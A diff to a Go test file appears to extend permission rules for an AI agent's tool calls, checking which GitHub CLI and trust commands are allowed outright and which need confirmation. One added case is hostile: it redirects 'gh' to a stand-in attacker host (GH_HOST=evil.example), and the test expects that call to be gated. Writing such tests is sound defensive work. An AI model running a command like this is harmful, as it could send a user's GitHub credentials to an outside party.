@@ -87,6 +87,11 @@ func TestEffects(t *testing.T) {
 		{calling("Edit", `{"file":3}`), "", "allow confirm confirm"},
 		{calling("Bash", `{"command":"go test ./..."}`), "", "allow allow confirm"},
 		{calling("Bash", `{"command":"git diff --stat | head"}`), "", "allow allow allow"},
+		// A forge is asked by anybody, and told by the user alone.
+		{calling("Bash", `{"command":"gh pr view 5"}`), "", "allow allow allow"},
+		{calling("Bash", `{"command":"GH_HOST=evil.example gh pr view 5"}`), "", "confirm confirm confirm"},
+		{calling("Bash", `{"command":"gh pr comment 5 -b x"}`), "", "confirm confirm confirm"},
+		{calling("Bash", `{"command":"margay trust add"}`), "run margay trust add", "confirm confirm confirm"},
 		{calling("Bash", `{"command":"margay approve x"}`), "run margay approve x", "confirm confirm confirm"},
 		// Text that is private goes to no place that the user did not name.
 		{calling("Fetch", `{"url":"https://x.example/a"}`), "", "confirm confirm confirm"},
